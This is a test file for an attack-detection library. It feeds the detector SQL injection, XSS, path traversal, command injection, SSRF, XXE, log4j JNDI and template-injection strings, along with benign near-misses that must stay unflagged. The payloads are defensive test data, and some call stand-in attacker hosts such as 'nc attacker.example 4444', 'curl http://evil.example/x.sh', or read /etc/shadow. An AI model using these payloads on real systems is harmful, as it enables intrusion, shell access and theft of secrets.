import { AttackClass, detectAttackAny, normalizedText } from "../attack";

function detect(s: string): AttackClass { const b = String.UTF8.encode(s); return detectAttackAny(changetype<usize>(b), b.byteLength); }

describe("attack detection: positives, decoded and obfuscated", () => {
  it("SQL injection", () => {
    expect(detect("' OR '1'='1")).toBe(AttackClass.Sqli);
    expect(detect("1' or 1=1--")).toBe(AttackClass.Sqli);
    expect(detect("admin'--")).toBe(AttackClass.Sqli);
    expect(detect("1 UNION ALL SELECT username, password FROM users")).toBe(AttackClass.Sqli);
    expect(detect("1/**/UnIoN/**/SeLeCt/**/1,2")).toBe(AttackClass.Sqli);
    expect(detect("x'; DROP TABLE users; --")).toBe(AttackClass.Sqli);
    expect(detect("%27%20OR%201%3D1")).toBe(AttackClass.Sqli);
    expect(detect("1 AND SLEEP(5)")).toBe(AttackClass.Sqli);
    expect(detect("\") or (\"a\"=\"a")).toBe(AttackClass.Sqli);
  });
  it("XSS", () => {
    expect(detect("<script>alert(1)</script>")).toBe(AttackClass.Xss);
    expect(detect("<img src=x onerror=alert(1)>")).toBe(AttackClass.Xss);
    expect(detect("&lt;svg onload=alert(1)&gt;")).toBe(AttackClass.Xss);
    expect(detect("javascript:alert(document.cookie)")).toBe(AttackClass.Xss);
    expect(detect("%3Cscript%3Ealert(1)%3C%2Fscript%3E")).toBe(AttackClass.Xss);
    expect(detect("<a href=\"x\" onmouseover = \"steal()\">hi</a>")).toBe(AttackClass.Xss);
  });
  it("traversal, LFI and RFI", () => {
    expect(detect("../../../../etc/passwd")).toBe(AttackClass.Traversal);
    expect(detect("..%2f..%2f..%2fetc%2fshadow")).toBe(AttackClass.Traversal);
    expect(detect("%252e%252e%252f%252e%252e%252fwindows/win.ini")).toBe(AttackClass.Traversal);
    expect(detect("....//....//etc/passwd")).toBe(AttackClass.Traversal);
    expect(detect("php://filter/convert.base64-encode/resource=index.php")).toBe(AttackClass.Traversal);
    expect(detect("http://evil.example/shell.txt?")).toBe(AttackClass.Rfi);
  });
  it("command injection", () => {
    expect(detect("127.0.0.1; cat /etc/hosts")).toBe(AttackClass.Cmdi);
    expect(detect("8.8.8.8 && whoami")).toBe(AttackClass.Cmdi);
    expect(detect("x | nc attacker.example 4444")).toBe(AttackClass.Cmdi);
    expect(detect("$(curl http://evil.example/x.sh)")).toBe(AttackClass.Cmdi);
    expect(detect("`id`")).toBe(AttackClass.Cmdi);
    expect(detect(";/bin/bash -i")).toBe(AttackClass.Cmdi);
  });
  it("SSRF: metadata, localhost, private ranges, numeric forms", () => {
    expect(detect("http://169.254.169.254/latest/meta-data/")).toBe(AttackClass.Ssrf);
    expect(detect("http://[fd00:ec2::254]/latest/")).toBe(AttackClass.Ssrf);
    expect(detect("http://metadata.google.internal/computeMetadata/v1/")).toBe(AttackClass.Ssrf);
    expect(detect("http://localhost:8080/admin")).toBe(AttackClass.Ssrf);
    expect(detect("http://2130706433/")).toBe(AttackClass.Ssrf);
    expect(detect("http://0x7f000001/")).toBe(AttackClass.Ssrf);
    expect(detect("http://0177.0.0.1/")).toBe(AttackClass.Ssrf);
    expect(detect("http://10.0.0.5:9200/_cat")).toBe(AttackClass.Ssrf);
    expect(detect("gopher://127.0.0.1:6379/_FLUSHALL")).toBe(AttackClass.Ssrf);
  });
  it("XXE, JNDI and SSTI", () => {
    expect(detect("<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>")).toBe(AttackClass.Xxe);
    expect(detect("${jndi:ldap://evil.example/a}")).toBe(AttackClass.Jndi);
    expect(detect("${${lower:j}ndi:${lower:l}dap://x/a}")).toBe(AttackClass.Jndi);
    expect(detect("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}")).toBe(AttackClass.Jndi);
    expect(detect("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}")).toBe(AttackClass.Jndi);
    expect(detect("{{7*7}}")).toBe(AttackClass.Ssti);
    expect(detect("{{ ''.__class__.__mro__[1].__subclasses__() }}")).toBe(AttackClass.Ssti);
    expect(detect("${T(java.lang.Runtime).getRuntime().exec('id')}")).toBe(AttackClass.Ssti);
  });
});

describe("attack detection: prose and benign values are not attacks", () => {
  it("shape classes from the quality pass: each with a near miss that stays clean", () => {
    // A value that is itself a query string: every parameter start begins a value of its own.
    expect(detect("ref=9 or 4=4")).toBe(AttackClass.Sqli);
    expect(detect("/list?a=b&n=3 or 8=8")).toBe(AttackClass.Sqli);
    expect(detect("ref=9 or more")).toBe(AttackClass.None);
    // SQL line comments end at the newline; '#' before a letter is an anchor.
    expect(detect("-2#x\nunion select a,b")).toBe(AttackClass.Sqli);
    expect(detect("<a href=\"#intro\">Intro</a>")).toBe(AttackClass.None);
    // Command-running calls and inline shell code.
    expect(detect(";system('ls -l')")).toBe(AttackClass.Cmdi);
    expect(detect("sh -c \"id\"")).toBe(AttackClass.Cmdi);
    expect(detect("The system (as built) works; run bash -c carefully")).toBe(AttackClass.None);
    // Bracket globs in a path; a route placeholder is not one.
    expect(detect("tail /e[t]c/pass[w]d")).toBe(AttackClass.Cmdi);
    expect(detect("app/posts/[slug]/page.tsx")).toBe(AttackClass.None);
    // A message line starting with a tool name is prose unless shell arguments follow.
    expect(detect("Hi,\nfind the report attached.\nhead count: 9")).toBe(AttackClass.None);
    expect(detect("x\nhead -c 100 /etc/shadow")).toBe(AttackClass.Cmdi);
    // SSRF hosts: wrapped numbers, missing slashes, sftp, ::ffff: hex.
    expect(detect("http://425.510.425.510/")).toBe(AttackClass.Ssrf);
    expect(detect("http:2130706433/")).toBe(AttackClass.Ssrf);
    expect(detect("sftp://files.example/x")).toBe(AttackClass.Ssrf);
    expect(detect("http://[0:0:0:0:0:ffff:7f00:1]/")).toBe(AttackClass.Ssrf);
    expect(detect("http://300.1.1.1/")).toBe(AttackClass.None);
    // log4j environment lookups, EL objects, Handlebars gadgets, Perl interpolation.
    expect(detect("${env:SECRET_KEY}")).toBe(AttackClass.Jndi);
    expect(detect("${application}")).toBe(AttackClass.Ssti);
    expect(detect("Hi ${applicationName}")).toBe(AttackClass.None);
    expect(detect("{{#with \"a\" as |x|}}{{this.pop}}{{/with}}")).toBe(AttackClass.Ssti);
    expect(detect("@{[ system 'id' ]}")).toBe(AttackClass.Ssti);
    // XSS without a plain tag: namespaced, CSS url(), global by string, JSFuck, UTF-7.
    expect(detect("<y:script xmlns:y=\"http://www.w3.org/1999/xhtml\">alert(1)</y:script>")).toBe(AttackClass.Xss);
    expect(detect("color:red;background:url(javascript:alert(1))")).toBe(AttackClass.Xss);
    expect(detect("parent['alert'](1)")).toBe(AttackClass.Xss);
    expect(detect("(![]+[])[+!+[]]")).toBe(AttackClass.Xss);
    expect(detect("+ADw-script+AD4-alert(1)")).toBe(AttackClass.Xss);
    expect(detect("row['name'] = 1")).toBe(AttackClass.None);
    // Embeds and data blocks are content; with a script vector they are not.
    expect(detect("<iframe src=\"https://www.youtube.com/embed/x1\" width=\"560\" allowfullscreen></iframe>")).toBe(AttackClass.None);
    expect(detect("<iframe src=\"https://www.youtube.com/embed/x1\" onload=\"alert(1)\"></iframe>")).toBe(AttackClass.Xss);
    expect(detect("<script type=\"application/ld+json\">{\"@type\":\"Thing\"}</script>")).toBe(AttackClass.None);
    expect(detect("<script type=\"application/ld+json\">{}</script><script>alert(1)</script>")).toBe(AttackClass.Xss);
    // Markdown: fenced commands and inline code in a sentence are documentation.
    expect(detect("```sh\nnpm i left-pad\n```")).toBe(AttackClass.None);
    expect(detect("Set the configured `timeout` first.")).toBe(AttackClass.None);
    expect(detect("`id`")).toBe(AttackClass.Cmdi);
    // A clause to append at the start of the value; a command line as the whole value.
    expect(detect(" ORDER BY 3-- ")).toBe(AttackClass.Sqli);
    expect(detect("having 2=2")).toBe(AttackClass.Sqli);
    expect(detect("order by price")).toBe(AttackClass.None);
    expect(detect("netstat -tulpn")).toBe(AttackClass.Cmdi);
    expect(detect("type -A records are used for IPv4 addresses in DNS zones")).toBe(AttackClass.None);
    expect(detect("<img src=x onerror /=alert(1)>")).toBe(AttackClass.Xss);
    // A processing instruction's attributes are read; an XML declaration is not a tag to flag.
    expect(detect("<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert(1)\"?><r/>")).toBe(AttackClass.Xss);
    expect(detect("<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Ann</to></note>")).toBe(AttackClass.None);
    expect(detect("<animate attributeName=\"onload\" to=\"alert(1)\"/>")).toBe(AttackClass.Xss);
    // PHP code after an open tag; inside a markdown fence it is documentation.
    expect(detect("<?php passthru($_GET['c']); ?>")).toBe(AttackClass.Cmdi);
    expect(detect("<?=`ls`?>")).toBe(AttackClass.Cmdi);
    expect(detect("```php\n<?php echo date('Y'); ?>\n```")).toBe(AttackClass.None);
    // Shellshock's function prefix, a command chained at the start, bracket ranges, comma-passed shell code.
    expect(detect("() { :; }; echo hi")).toBe(AttackClass.Cmdi);
    expect(detect("f() { return 1; }")).toBe(AttackClass.None);
    expect(detect("uname;x")).toBe(AttackClass.Cmdi);
    expect(detect("/usr/[a-z]in/sh")).toBe(AttackClass.Cmdi);
    expect(detect("cc -wrapper bash,-c,id x")).toBe(AttackClass.Cmdi);
    // Error-based grouping after a numeric tautology; a sub-select with a clause after its table.
    expect(detect("7 or 1 group by concat(version(),floor(rand(0)*2))having min(0) -- ")).toBe(AttackClass.Sqli);
    expect(detect("(select name from accounts limit 1,1)")).toBe(AttackClass.Sqli);
    expect(detect("select x from y where")).toBe(AttackClass.None);
  });
  it("does not flag normal text", () => {
    expect(detect("Please select a drop-off point")).toBe(AttackClass.None);
    expect(detect("O'Brien")).toBe(AttackClass.None);
    expect(detect("Rock 'n' roll or jazz")).toBe(AttackClass.None);
    expect(detect("I'd like to order 2 or 3 items")).toBe(AttackClass.None);
    expect(detect("Use ```sql\nSELECT name FROM users WHERE id = 1\n``` to read it")).toBe(AttackClass.None);
    expect(detect("https://www.example.com/products/42")).toBe(AttackClass.None);
    // (A parameter holding "../" is reported as traversal, as OWASP CRS does: an API has no use for it.)
    expect(detect("../images/logo.png")).toBe(AttackClass.Traversal);
    expect(detect("cats & dogs; id est the pets")).toBe(AttackClass.None);
    expect(detect("price: ${price} total")).toBe(AttackClass.None);
    expect(detect("a < b and c > d")).toBe(AttackClass.None);
    expect(detect("Meeting at 10.0.0.5? No, room 12")).toBe(AttackClass.None);
    expect(detect("I love <b>bold</b> text")).toBe(AttackClass.None);
  });
  it("prose that names a tag is not XSS; an injected tag still is", () => {
    expect(detect("The <iframe> element is deprecated in this guide")).toBe(AttackClass.None);
    expect(detect("<script>")).toBe(AttackClass.Xss);
    expect(detect("hello <script>")).toBe(AttackClass.Xss);
    expect(detect("Hello <script>alert(1)</script>")).toBe(AttackClass.Xss);
    expect(detect("nice <script src=//evil.example/x.js> post")).toBe(AttackClass.Xss);
    expect(detect("The <script> tag, see <script>document.cookie</script>")).toBe(AttackClass.Xss);
  });
  it("FreeMarker templates reaching Java", () => {
    expect(detect('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}')).toBe(AttackClass.Ssti);
    expect(detect('${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}')).toBe(AttackClass.Ssti);
  });
  it("normalizes repeated encodings, entities, case and comments", () => {
    expect(normalizedText(changetype<usize>(String.UTF8.encode("%2527%2520OR")), 12)).toBe("' or");
    expect(normalizedText(changetype<usize>(String.UTF8.encode("&#x3C;SCRIPT&#62;")), 17)).toBe("<script>");
  });
});
